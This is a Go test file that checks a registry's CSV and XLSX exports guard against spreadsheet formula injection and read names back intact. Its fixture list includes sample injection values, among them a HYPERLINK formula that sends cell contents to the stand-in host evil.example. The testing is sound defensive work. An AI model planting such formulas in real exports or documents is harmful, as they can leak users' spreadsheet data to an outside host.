package registryio_test

import (
	"bytes"
	"context"
	"sort"
	"strings"
	"testing"

	"github.com/cdoatlas/cdoatlas"
	"github.com/cdoatlas/cdoatlas/registryio"
	"github.com/cdoatlas/cdoatlas/sqldb/sqldbtest"
	"github.com/cdoatlas/cdoatlas/tabular"
)

// formulaNames are organization names a spreadsheet would run as formulas
// if a CSV cell started with them.
var formulaNames = []string{
	`=HYPERLINK("http://evil.example/?"&A1;"Klick")`,
	"+SUM(1;2)",
	"-2+3",
	"@SUM(A1:A2)",
	"'=already guarded",
	"Amt; =1+2",
}

// TestExportGuardsFormulas checks that the CSV exports hold no cell a
// spreadsheet would run, and that importing any export gives back the
// names as they were.
func TestExportGuardsFormulas(t *testing.T) {
	ctx := context.Background()
	store := sqldbtest.Open(t)
	for _, name := range formulaNames {
		o := &cdoatlas.Organization{Name: name, OtherNames: []string{"=1+1"}, Kind: "company", Country: "DE", Sector: "-A1"}
		if err := store.CreateOrganization(ctx, o); err != nil {
			t.Fatalf("create %q: %v", name, err)
		}
		p := &cdoatlas.Post{OrganizationID: o.ID, Title: "@Leitung Digitales", Role: "cdo"}
		if err := store.CreatePost(ctx, p); err != nil {
			t.Fatal(err)
		}
	}
	for _, format := range []string{"csv", "csv-de", "xlsx"} {
		t.Run(format, func(t *testing.T) {
			data := export(t, store, format)
			if format != "xlsx" {
				table, err := tabular.Read(bytes.NewReader(data), "registry.csv")
				if err != nil {
					t.Fatal(err)
				}
				for _, row := range table.Rows {
					for i, c := range row.Cells {
						if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
							t.Errorf("line %d, %s: cell %q starts a formula", row.Line, table.Header[i], c)
						}
					}
				}
			}
			recs, err := registryio.ReadRegistry(bytes.NewReader(data), "registry."+format)
			if err != nil {
				t.Fatalf("ReadRegistry: %v", err)
			}
			var got []string
			for _, r := range recs {
				got = append(got, r.Organization.Name)
				if r.Organization.Sector != "-A1" || len(r.Organization.OtherNames) != 1 || r.Organization.OtherNames[0] != "=1+1" {
					t.Errorf("%q: sector %q, other names %q; want -A1 and [=1+1]", r.Organization.Name, r.Organization.Sector, r.Organization.OtherNames)
				}
				if r.Post == nil || r.Post.Title != "@Leitung Digitales" {
					t.Errorf("%q: post %+v, want title @Leitung Digitales", r.Organization.Name, r.Post)
				}
			}
			want := append([]string(nil), formulaNames...)
			sort.Strings(got)
			sort.Strings(want)
			if strings.Join(got, "\n") != strings.Join(want, "\n") {
				t.Errorf("names read back:\n%q\nwant\n%q", got, want)
			}
		})
	}
}
